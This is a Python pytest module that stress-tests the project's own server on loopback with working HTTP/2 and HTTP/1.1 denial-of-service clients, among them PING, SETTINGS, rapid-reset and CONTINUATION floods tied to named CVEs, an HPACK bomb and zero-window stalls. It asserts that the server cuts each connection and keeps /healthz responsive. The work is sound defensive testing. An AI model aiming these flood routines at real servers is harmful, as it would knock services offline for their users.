"""Hostile HTTP/2 clients, and HTTP/1.1's pipelining and unread answers, against a real
`python -m app`, one connection at a time, bounded in time, while another process asks /healthz
every 10 ms on its own connection (tests.probe).

Most attacks are cut within a fraction of a second, too soon for a p99 of their own: each is
made again on a new connection, one after the other, for REPEAT_SECONDS, and the probe's
figures are over all of them. Each attack reports the probe's p50/p99/max, the server's own
loop-lag samples (its metrics), its memory growth and how the connections ended; the tests
assert that every abusive connection was cut, that /healthz went on being answered as usual
and that the server logged no traceback. docs/reliability.md lists the figures.
"""

from __future__ import annotations

import asyncio
import os
import socket
import time
import urllib.request
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from typing import TypeVar

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings
import hpack
import pytest
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, SettingsFrame
from prometheus_client.parser import text_string_to_metric_families

from app.protocols import SEND_STALL_SECONDS
from tests.probe import Probe, percentile
from tests.processes import LOOPBACK, ServerProcess, service
from tests.reliability.conftest import rss_kib

pytestmark = pytest.mark.reliability
T = TypeVar("T")

# An attack stops after this long if the server has not cut it by then.
ATTACK_SECONDS = 3.0
# Each attack is made again, one connection after another, until this long has passed.
REPEAT_SECONDS = 3.0
# /healthz during an attack: a bound that says it was not held up behind the attack (it was
# 1.0-4.0 s behind a PING or SETTINGS flood before the fair turns).
USUAL = 1.0
GOAWAY = 0x7
# The server and the probe on one core, the attacker (this process) on the other, so that the
# probe measures how long the server makes /healthz wait, not how the attacker's work competes
# with them for a core.
SERVER_CPUS, ATTACKER_CPUS = {0}, {1}
REQUEST = [(":method", "GET"), (":path", "/healthz"), (":scheme", "http"), (":authority", LOOPBACK)]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    env = {"NUMBERS_API_COUNT": "1000", "NUMBERS_API_DELAY": "0.05"}
    with service(env, tmp_path_factory.mktemp("hostile-http2"), cpus=SERVER_CPUS) as process:
        yield process


def loop_lag(server: ServerProcess) -> tuple[float, float, float]:
    """The server's loop-lag samples so far (app.web.metrics), from one scrape: all of them,
    those over 10 ms and those over 100 ms."""
    with urllib.request.urlopen(server.url + "/metrics", timeout=10) as response:
        exposition = response.read().decode()
    buckets = {
        sample.labels["le"]: sample.value
        for family in text_string_to_metric_families(exposition)
        for sample in family.samples
        if sample.name == "event_loop_lag_seconds_bucket"
    }
    count = buckets["+Inf"]
    return count, count - buckets["0.01"], count - buckets["0.1"]


@dataclass
class Ending:
    """How an attack's connection ended."""

    cut: bool  # closed by the server within the attack's time
    seconds: float
    goaway: int | None  # the GOAWAY's error code, if one was read


class Attacker:
    """One h2c connection whose client writes what it likes and reads nothing until the end."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.started = time.monotonic()
        self.client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))

    @classmethod
    async def connect(
        cls, port: int, settings: dict[h2.settings.SettingCodes, int] | None = None
    ) -> Attacker:
        attacker = cls(*await asyncio.open_connection(LOOPBACK, port))
        attacker.client.local_settings = h2.settings.Settings(client=True, initial_values=settings or {})
        attacker.client.initiate_connection()
        attacker.writer.write(attacker.client.data_to_send())
        return attacker

    def in_time(self, seconds: float = ATTACK_SECONDS) -> bool:
        return time.monotonic() - self.started < seconds

    async def send(self, data: bytes) -> bool:
        """Write `data`; False once the server has closed the connection."""
        try:
            self.writer.write(data)
            await asyncio.wait_for(self.writer.drain(), 1.0)
        except ConnectionError:
            return False
        except TimeoutError:
            pass  # the server does not read just now
        return not self.writer.is_closing()

    async def flood(self, frames: bytes, seconds: float = ATTACK_SECONDS) -> None:
        """Write `frames` again and again until the server closes or `seconds` pass."""
        while self.in_time(seconds) and await self.send(frames):
            pass

    async def ending(self, seconds: float = ATTACK_SECONDS) -> Ending:
        """Read what the server sent, up to its close or a second past the attack's time."""
        received, closed = bytearray(), False
        deadline = self.started + seconds + 1.0
        while (left := deadline - time.monotonic()) > 0:
            try:
                data = await asyncio.wait_for(self.reader.read(1 << 20), left)
            except TimeoutError:
                break
            except ConnectionError:
                closed = True
                break
            if not data:
                closed = True
                break
            received += data
        self.writer.close()
        return Ending(closed, time.monotonic() - self.started, _goaway_code(bytes(received)))


def _goaway_code(data: bytes) -> int | None:
    """The error code of the last GOAWAY among the frames in `data`."""
    code, position = None, 0
    while position + 9 <= len(data):
        length = int.from_bytes(data[position : position + 3], "big")
        if data[position + 3] == GOAWAY and position + 9 + length <= len(data):
            code = int.from_bytes(data[position + 13 : position + 17], "big")
        position += 9 + length
    return code


def headers_frames(client: h2.connection.H2Connection, count: int, *, reset: bool, end: bool) -> bytes:
    """HEADERS for `count` new GET /healthz streams, each reset at once if `reset`."""
    for _ in range(count):
        stream = client.get_next_available_stream_id()
        client.send_headers(stream, REQUEST, end_stream=end)
        if reset:
            client.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
    return client.data_to_send()


async def ping_flood(port: int) -> Ending:
    """PINGs, never reading the acknowledgements (CVE-2019-9512)."""
    attacker = await Attacker.connect(port)
    await attacker.flood(PingFrame(0, opaque_data=b"12345678").serialize() * 4000)
    return await attacker.ending()


async def settings_flood(port: int) -> Ending:
    """Empty SETTINGS frames, never reading the acknowledgements (CVE-2019-9515)."""
    attacker = await Attacker.connect(port)
    await attacker.flood(SettingsFrame(0).serialize() * 8000)
    return await attacker.ending()


async def rapid_reset(port: int) -> Ending:
    """Streams opened and reset at once, 100 at a time (CVE-2023-44487)."""
    attacker = await Attacker.connect(port)
    while attacker.in_time() and await attacker.send(
        headers_frames(attacker.client, 100, reset=True, end=True)
    ):
        pass
    return await attacker.ending()


async def continuation_flood(port: int) -> Ending:
    """A header block that never ends: CONTINUATION frames without END_HEADERS (CVE-2024-27316)."""
    attacker = await Attacker.connect(port)
    block = hpack.Encoder().encode(REQUEST)
    await attacker.send(HeadersFrame(1, data=block).serialize())
    await attacker.flood(ContinuationFrame(1, data=b"\x40\x01x\x01y" * 1000).serialize() * 16)
    return await attacker.ending()


async def hpack_bomb(port: int) -> Ending:
    """A 4 KiB header put in the HPACK table once, then named by a one-byte index 10,000 times."""
    attacker = await Attacker.connect(port)
    encoder = hpack.Encoder()
    first = encoder.encode([*REQUEST, ("x-bomb", "b" * 4000)])
    repeat = encoder.encode([*REQUEST, *[("x-bomb", "b" * 4000)] * 10_000])
    frames = HeadersFrame(1, data=first, flags=["END_HEADERS", "END_STREAM"]).serialize()
    for stream in range(3, 3 + 2 * 20, 2):
        frames += HeadersFrame(stream, data=repeat, flags=["END_HEADERS", "END_STREAM"]).serialize()
    await attacker.flood(frames)
    return await attacker.ending()


async def stream_flood(port: int) -> Ending:
    """Streams opened and left open, far past the 100 the server allows at once."""
    attacker = await Attacker.connect(port)
    attacker.client.remote_settings.max_concurrent_streams = 10_000  # as a client that ignores it
    await attacker.send(headers_frames(attacker.client, 1000, reset=False, end=False))
    return await attacker.ending()


async def data_on_a_get(port: int) -> Ending:
    """GET with DATA frames that never end, never reading."""
    attacker = await Attacker.connect(port)
    await attacker.send(headers_frames(attacker.client, 1, reset=False, end=False))
    await attacker.flood(DataFrame(1, data=b"x" * 10).serialize() * 4000)
    return await attacker.ending()


async def zero_window(port: int) -> Ending:
    """A flow-control window kept at 0: 100 answers that can never be sent."""
    seconds = 1.5 * SEND_STALL_SECONDS + 1
    attacker = await Attacker.connect(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    await attacker.send(headers_frames(attacker.client, 100, reset=False, end=True))
    return await attacker.ending(seconds)


async def pipelined(port: int) -> Ending:
    """HTTP/1.1: 10,000 requests pipelined on one connection, the answers read at the end."""
    attacker = Attacker(*await asyncio.open_connection(LOOPBACK, port))
    await attacker.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n" * 10_000)
    return await attacker.ending()


async def unread(port: int) -> Ending:
    """HTTP/1.1: Swagger UI's 1.4 MB script asked for five times by a client that reads nothing
    (a 4 KiB receive buffer) until the server has had SEND_STALL_SECONDS to give up on it."""
    client = socket.socket()
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    client.setblocking(False)
    await asyncio.get_running_loop().sock_connect(client, (LOOPBACK, port))
    attacker = Attacker(*await asyncio.open_connection(sock=client))
    await attacker.send(b"GET /docs/assets/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n\r\n" * 5)
    await asyncio.sleep(SEND_STALL_SECONDS + 1)
    return await attacker.ending(SEND_STALL_SECONDS + 1)


# Each attack, and how soon the server must have cut it: the zero window and the unread
# answers after writes wait SEND_STALL_SECONDS, every other one well within the attack's time.
ATTACKS: dict[str, tuple[Callable[[int], Awaitable[Ending]], float]] = {
    "PING flood": (ping_flood, 1.0),
    "SETTINGS flood": (settings_flood, 1.0),
    "rapid reset": (rapid_reset, ATTACK_SECONDS),
    "CONTINUATION flood": (continuation_flood, 1.0),
    "HPACK bomb": (hpack_bomb, 1.0),
    "stream flood": (stream_flood, 1.0),
    "DATA on a GET": (data_on_a_get, 1.0),
    "zero window": (zero_window, 1.5 * SEND_STALL_SECONDS + 1),
    "HTTP/1.1 pipelining": (pipelined, ATTACK_SECONDS),
    "HTTP/1.1 answers unread": (unread, SEND_STALL_SECONDS + 2),
}


@dataclass
class Watched:
    """What the probe and the server's metrics saw while a client repeated itself."""

    latencies: list[float]
    grown_kib: int
    lag: tuple[float, float, float]  # loop-lag samples: all, over 10 ms, over 100 ms
    logged: str  # what the server wrote to its stderr meanwhile

    def summary(self) -> str:
        p50, p99, slowest = (
            1000 * value
            for value in (
                percentile(self.latencies, 0.5),
                percentile(self.latencies, 0.99),
                max(self.latencies),
            )
        )
        samples, over_10_ms, over_100_ms = self.lag
        return (
            f"/healthz p50 {p50:.1f} ms, p99 {p99:.1f} ms, max {slowest:.1f} ms ({len(self.latencies)} "
            f"asked); RSS {self.grown_kib:+d} KiB; the loop's own lag, sampled every 0.1 s: "
            f"{samples:.0f} samples, {over_10_ms:.0f} over 10 ms, {over_100_ms:.0f} over 100 ms"
        )


async def watched(server: ServerProcess, client: Callable[[int], Awaitable[T]]) -> tuple[list[T], Watched]:
    """`client` made again on a new connection, one after the other, until REPEAT_SECONDS have
    passed, from the attacker's core, while the probe asks /healthz: each one's result, and
    what was seen."""
    before, lag_before, logged = rss_kib(server), loop_lag(server), len(server.stderr())
    own_cpus = os.sched_getaffinity(0)
    results: list[T] = []
    with Probe(server.url + "/healthz", SERVER_CPUS) as probe:
        os.sched_setaffinity(0, ATTACKER_CPUS)
        started = time.monotonic()
        try:
            while not results or time.monotonic() - started < REPEAT_SECONDS:
                results.append(await client(server.port))
        finally:
            os.sched_setaffinity(0, own_cpus)
        await asyncio.sleep(0.2)
    lag = loop_lag(server)
    seen = Watched(
        probe.latencies,
        rss_kib(server) - before,
        (lag[0] - lag_before[0], lag[1] - lag_before[1], lag[2] - lag_before[2]),
        server.stderr()[logged:],
    )
    return results, seen


@pytest.mark.parametrize("name", ATTACKS)
async def test_attack_cut_and_others_served(
    server: ServerProcess, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    attack, cut_within = ATTACKS[name]
    endings, seen = await watched(server, attack)
    cut = sum(ending.cut for ending in endings)
    longest = max(ending.seconds for ending in endings)
    goaways = "/".join(sorted({str(ending.goaway) for ending in endings}))
    with capsys.disabled():
        print(
            f"\n{name}: {len(endings)} connections, {cut} cut, the longest after {longest:.2f} s, "
            f"GOAWAY {goaways}; {seen.summary()}"
        )
    # Cut by the server, in time (a client that has sent more than the server read sees the
    # connection reset, its GOAWAY lost, as the kernel resets a socket closed with unread data).
    assert cut == len(endings)
    assert longest < cut_within
    assert max(seen.latencies) < USUAL
    assert seen.grown_kib < 20 * 1024
    assert "Traceback" not in seen.logged  # a client's abuse is not the server's error


async def one_request(port: int) -> int:
    """A client that does nothing wrong: a new h2c connection, one GET /healthz, its answer read
    to the end, the connection closed. The answer's status."""
    client = await Attacker.connect(port)
    await client.send(headers_frames(client.client, 1, reset=False, end=True))
    status = 0
    while True:
        data = await asyncio.wait_for(client.reader.read(1 << 16), USUAL)
        if not data:
            raise ConnectionError("closed before the answer's end")
        for event in client.client.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                status = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.StreamEnded):
                client.writer.close()
                return status


async def test_a_client_that_does_nothing_wrong(
    server: ServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    """For comparison with the attacks, the same figures while a client that does nothing wrong
    connects, asks once and closes, back to back: what a busy client costs the others."""
    statuses, seen = await watched(server, one_request)
    with capsys.disabled():
        print(f"\nfor comparison, one request per connection: {len(statuses)} connections; {seen.summary()}")
    assert set(statuses) == {200}
    assert "Traceback" not in seen.logged
